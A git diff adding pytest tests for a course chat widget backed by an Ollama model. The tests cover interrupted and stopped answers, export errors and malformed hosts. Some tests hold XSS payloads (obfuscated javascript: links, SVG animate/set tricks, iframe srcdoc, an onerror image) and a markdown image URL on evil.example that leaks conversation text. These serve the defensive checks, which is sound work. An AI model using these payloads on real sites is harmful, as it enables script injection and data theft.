@@ -3,12 +3,14 @@
 import base64
 import io
 import json
+import time
 from datetime import datetime, timezone
 
 import pytest
 from PIL import Image
 
 from course_utils.chat import ChatWidget, executable_parts, render_markdown
+from course_utils.errors import CourseError
 from tests.ollama_double import PREFIX
 
 XSS = ('<img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> [a](javascript:window.__xss=3) '
@@ -22,6 +24,10 @@ def upload_item(data: bytes, name: str = "foto.jpg") -> dict:
 
 def texts(chat: ChatWidget) -> list[str]:
     return [bubble.value for bubble in chat.pane.children]
+
+
+def answer_text(chat: ChatWidget) -> str:
+    return chat.history[-1].content
 
 
 def decode(b64: str) -> Image.Image:
@@ -107,9 +113,12 @@ def test_second_send_is_ignored_while_streaming_and_stop_keeps_the_partial_answe
     assert chat.send("Primera")
     assert not chat.send("Segunda")
     assert "Espera" in chat.status.value and chat.send_button.disabled and not chat.stop_button.disabled
+    deadline = time.monotonic() + 10
+    while "palabra1" not in texts(chat)[-1] and time.monotonic() < deadline:  # some words have arrived
+        time.sleep(0.02)
     chat.stop()
     assert chat.wait(20)
-    assert len(ollama_double.chats()) == 1
+    assert len(ollama_double.chats()) == 1 and "palabra1" in answer_text(chat)
     answer = chat.history[-1]
     assert answer.stopped and words[-1] not in answer.content
     assert "respuesta detenida" in texts(chat)[-1]
@@ -166,17 +175,18 @@ def test_server_error_keeps_the_text_the_image_and_the_history(chat, ollama_doub
     chat.send("Mi pregunta larga")
     chat.wait(20)
     assert chat.prompt.value == "Mi pregunta larga" and chat._image is not None
-    assert len(chat.history) == 2
-    assert "course-error" in texts(chat)[-1] and "Mi pregunta larga" not in "".join(texts(chat))
+    assert [m.content for m in chat.history[2:]] == ["Mi pregunta larga", ""] and chat.history[2].images
+    assert chat.history[3].interrupted and "Mi pregunta larga" in texts(chat)[-3]
+    assert "course-error" in texts(chat)[-1]
     assert chat.send() and chat.wait(20)  # resending works
-    assert len(chat.history) == 4 and chat.history[2].images
+    assert len(chat.history) == 6 and chat.history[4].images and chat.history[5].content
 
 
 def test_cut_stream_is_explained_and_the_text_kept(chat, ollama_double):
     ollama_double.cut_after_chunks = 2
     chat.send("Se va a cortar")
     chat.wait(20)
-    assert "se cortó" in texts(chat)[-1] and chat.history == []
+    assert "se cortó" in texts(chat)[-1] and chat.history[0].content == "Se va a cortar"
     assert chat.prompt.value == "Se va a cortar"
 
 
@@ -235,3 +245,116 @@ def test_clear_empties_the_conversation_but_not_while_streaming(chat, ollama_dou
     chat.wait(20)
     chat.clear()
     assert chat.history == [] and chat.pane.children == ()
+
+
+# --- nothing lost, nothing hangs (issue 10) -----------------------------------------------------------
+
+def test_cut_stream_keeps_the_question_and_the_partial_answer_marked_interrupted(chat, ollama_double, samples):
+    ollama_double.replies.append("uno dos tres cuatro cinco seis siete ocho")
+    ollama_double.cut_after_chunks = 3
+    chat.attach_image(samples / "gato.jpg")
+    chat.send("Se va a cortar")
+    assert chat.wait(20)
+    question, answer = chat.history
+    assert question.content == "Se va a cortar" and question.images
+    assert answer.content == "uno dos tres " and answer.interrupted and not answer.stopped
+    bubbles = texts(chat)
+    assert "Se va a cortar" in bubbles[0] and "uno dos tres" in bubbles[1] and "interrumpida" in bubbles[1]
+    assert "se cortó" in bubbles[-1] and "course-error" in bubbles[-1]
+    assert "uno dos tres" in chat.to_markdown() and "interrumpida" in chat.to_markdown()
+    assert chat.to_json()["messages"][1]["interrupted"]
+    # the question is also back in the text box, ready to send again
+    assert chat.prompt.value == "Se va a cortar" and chat._image is not None
+
+
+def test_what_the_student_types_and_attaches_while_streaming_survives_a_failure(chat, ollama_double, samples):
+    ollama_double.replies.append(" ".join(f"p{i}" for i in range(40)))
+    ollama_double.chunk_delay = 0.05
+    ollama_double.cut_after_chunks = 20
+    chat.attach_image(samples / "gato.jpg")
+    assert chat.send("Primera")
+    chat.prompt.value = "Segunda, escrita mientras llega la respuesta"
+    chat.attach_image(samples / "cafe.jpg")
+    new_photo = chat._image
+    assert chat.wait(20)
+    assert chat.prompt.value == "Segunda, escrita mientras llega la respuesta"
+    assert chat._image == new_photo
+    question, answer = chat.history
+    assert question.content == "Primera" and question.images and question.images[0] != new_photo
+    assert answer.content.startswith("p0 p1") and answer.interrupted
+
+
+def test_an_interrupted_turn_with_no_answer_is_kept_but_not_sent_to_the_model(chat, ollama_double):
+    ollama_double.failures.append((500, "model runner has unexpectedly stopped"))
+    chat.send("Sin respuesta")
+    assert chat.wait(20)
+    assert [m.content for m in chat.history] == ["Sin respuesta", ""] and chat.history[1].interrupted
+    chat.prompt.value = ""
+    chat.send("Otra")
+    assert chat.wait(20)
+    sent = [m["content"] for m in ollama_double.chats()[-1]["messages"] if m["role"] != "system"]
+    assert sent == ["Otra"]
+
+
+def test_export_to_a_bad_folder_is_explained_and_nothing_is_overwritten(chat, tmp_path):
+    chat.send("Hola")
+    assert chat.wait(20)
+    a_file = tmp_path / "archivo.txt"
+    a_file.write_text("x")
+    with pytest.raises(CourseError, match="carpeta"):
+        chat.export(a_file)
+    chat.export_dir = a_file
+    chat.export_button.click()
+    assert "course-error" in texts(chat)[-1] and "archivo.txt" in texts(chat)[-1]
+    first = chat.export(tmp_path / "out")
+    second = chat.export(tmp_path / "out")
+    assert first[0] != second[0] and first[1] != second[1]
+    assert len(list((tmp_path / "out").iterdir())) == 4
+
+
+def test_model_output_cannot_load_remote_images():
+    rendered = render_markdown("mira ![secreto](http://evil.example/leak?q=conversacion) y "
+                               "[enlace](https://example.org)")
+    assert "<img" not in rendered and "evil.example" in rendered  # shown as text or a plain link
+    assert 'href="https://example.org"' in rendered
+
+
+@pytest.mark.parametrize("html_text, found", [
+    ('<a href="java&#09;script:alert(1)">x</a>', "href="),
+    ('<a href="java\nscript:alert(1)">x</a>', "href="),
+    ('<a href="&#106;avascript:alert(1)">x</a>', "href="),
+    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink:href="),
+    ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>', "values="),
+    ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "to="),
+    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
+])
+def test_executable_parts_sees_through_obfuscation(html_text, found):
+    assert any(part.startswith(found) for part in executable_parts(html_text)), executable_parts(html_text)
+
+
+@pytest.mark.parametrize("host", ["localhost:114340", "http://[::1", "ftp://servidor:11434"])
+def test_a_malformed_ollama_host_is_explained_and_the_widget_still_builds(monkeypatch, tmp_path, host):
+    monkeypatch.setenv("OLLAMA_HOST", host)
+    chat = ChatWidget(export_dir=tmp_path)
+    assert "OLLAMA_HOST" in texts(chat)[-1] and "course-error" in texts(chat)[-1]
+    chat.send("Hola")
+    assert chat.wait(20)
+    assert [m.content for m in chat.history] == ["Hola", ""] and "OLLAMA_HOST" in texts(chat)[-1]
+
+
+def test_stop_works_before_the_first_word_and_closes_the_request(chat, ollama_double):
+    ollama_double.hang = True
+    assert chat.send("¿Hay alguien?")
+    assert ollama_double.hanging.wait(10)
+    # the status says how long the student has been waiting (it is refreshed every second)
+    deadline = time.monotonic() + 10
+    while "(1 s)" not in chat.status.value and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert "esperando la primera palabra (1 s)" in chat.status.value and "Parar" in chat.status.value
+    chat.stop()
+    assert chat.wait(10), "Parar did not end the wait"
+    assert ollama_double.disconnected.wait(10), "the HTTP request was left open"
+    question, answer = chat.history
+    assert question.content == "¿Hay alguien?" and answer.stopped and answer.content == ""
+    assert not chat.send_button.disabled and chat.stop_button.disabled
+    assert "respuesta detenida" in texts(chat)[-1]
